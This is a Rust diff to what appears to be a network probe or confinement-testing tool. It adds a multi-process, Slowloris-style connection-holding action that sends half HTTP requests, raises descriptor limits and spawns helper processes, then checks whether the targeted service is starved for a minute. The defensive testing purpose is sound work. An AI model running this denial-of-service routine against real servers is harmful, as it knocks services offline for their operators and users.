@@ -4,8 +4,10 @@ use super::wire;
 use crate::linux::sys::netlink::{CREATE, Message, request};
 use crate::probe::Row;
 use crate::probe::{Act, Arguments, Refusal};
-use std::io::{ErrorKind, Read, Write};
+use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
+use std::io::{BufRead, BufReader, ErrorKind, Read, Write};
 use std::net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
+use std::process::{Child, Command, Stdio};
 use std::time::{Duration, Instant};
 
 pub(super) const ACTIONS: &[Row] = &[
@@ -21,6 +23,7 @@ pub(super) const ACTIONS: &[Row] = &[
     ("ask-odd", ask_odd),
     ("many-names", many_names),
     ("hold-connections", hold_connections),
+    ("hold-part", hold_part),
     ("bind-resolver", bind_resolver),
     ("add-route", |_| change(24, CREATE, &ROUTE)),
     ("drop-route", |_| change(25, 0, &ROUTE)),
@@ -235,23 +238,92 @@ fn many_names(arguments: &Arguments<'_>) -> Act {
     Ok(())
 }
 
+/// Descriptors of a process that are not for held connections.
+const OTHERS: usize = 64;
+
+/// How long there must be no service for an attack on it to have succeeded.
+const STARVED: Duration = Duration::from_secs(60);
+
+/// Connections with half a request each, in this process and, as far as its descriptors do not suffice, in others.
+#[derive(Default)]
+struct Hold {
+    streams: Vec<TcpStream>,
+    others: Vec<Child>,
+}
+
+impl Hold {
+    fn new(to: SocketAddr, count: usize) -> Result<Self, Refusal> {
+        let limit = getrlimit(Resource::Nofile);
+        // As many as the user may have; one that cannot be raised does with what there is.
+        let _as_it_is =
+            setrlimit(Resource::Nofile, Rlimit { current: limit.maximum, maximum: limit.maximum });
+        let limit = getrlimit(Resource::Nofile).current.and_then(|limit| usize::try_from(limit).ok());
+        let share = limit.unwrap_or(usize::MAX).saturating_sub(OTHERS).max(1);
+        let mut hold = Self::default();
+        let mut left = count;
+        while left > share {
+            hold.others.push(other_holder(to, share)?);
+            left -= share;
+        }
+        let mut failed = 0;
+        while hold.streams.len() < left {
+            match TcpStream::connect_timeout(&to, PATIENCE) {
+                Ok(mut stream) => {
+                    // One that is refused is as good as one that is kept waiting.
+                    let _refused = stream.write_all(b"GET / HTTP/1.1\r\nX: ");
+                    hold.streams.push(stream);
+                }
+                Err(_) if failed < 20 => failed += 1,
+                Err(error) => return Err(Refusal::broken(format!("{} held: {error}", hold.streams.len()))),
+            }
+        }
+        Ok(hold)
+    }
+}
+
+impl Drop for Hold {
+    fn drop(&mut self) {
+        for other in &mut self.others {
+            drop(other.stdin.take());
+            let _reaped = other.wait();
+        }
+    }
+}
+
+/// Another process that holds so many, from when this returns until its input ends.
+fn other_holder(to: SocketAddr, count: usize) -> Result<Child, Refusal> {
+    use std::os::unix::process::CommandExt;
+    let mut command = Command::new("/proc/self/exe");
+    command.arg0(super::NAME).args(["act", "hold-part"]).arg(to.to_string()).arg(count.to_string());
+    let mut other = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
+    let mut line = String::new();
+    if let Some(said) = &mut other.stdout {
+        BufReader::new(said).read_line(&mut line)?;
+    }
+    if line.trim() == "held" { Ok(other) } else { Err(Refusal::broken(line)) }
+}
+
+/// The part of another process (address, how many).
+fn hold_part(arguments: &Arguments<'_>) -> Act {
+    let held = Hold::new(address(arguments, 0)?, arguments.number(1)?)?;
+    println!("held");
+    let _end = std::io::stdin().read(&mut [0]);
+    drop(held);
+    Ok(())
+}
+
 /// Holds many connections with half a request each, and asks for service beside them (address, how many, whom to
 /// hold, answer). It succeeds if there is no service any more.
 fn hold_connections(arguments: &Arguments<'_>) -> Act {
-    let held = address(arguments, 2)?;
-    let mut streams = Vec::new();
-    for _ in 0..arguments.number::<u32>(1)? {
-        let Ok(mut stream) = TcpStream::connect_timeout(&held, PATIENCE) else { break };
-        // One that is refused is as good as one that is kept waiting.
-        let _refused = stream.write_all(b"GET / HTTP/1.1\r\nX: ");
-        streams.push(stream);
-    }
-    let serves = converse(address(arguments, 0)?, b"GET / HTTP/1.1\r\n\r\n", arguments.text(3)?, false);
-    drop(streams);
-    match serves {
-        Ok(()) => Err(Refusal::Os(libc::EAGAIN)),
-        Err(Refusal::Os(_)) => Ok(()),
-        Err(broken) => Err(broken),
+    let _held = Hold::new(address(arguments, 2)?, arguments.number(1)?)?;
+    let end = Instant::now() + STARVED;
+    loop {
+        match converse(address(arguments, 0)?, b"GET / HTTP/1.1\r\n\r\n", arguments.text(3)?, false) {
+            Ok(()) => return Err(Refusal::Os(libc::EAGAIN)),
+            Err(Refusal::Os(_)) if Instant::now() < end => {}
+            Err(Refusal::Os(_)) => return Ok(()),
+            Err(broken) => return Err(broken),
+        }
     }
 }
 
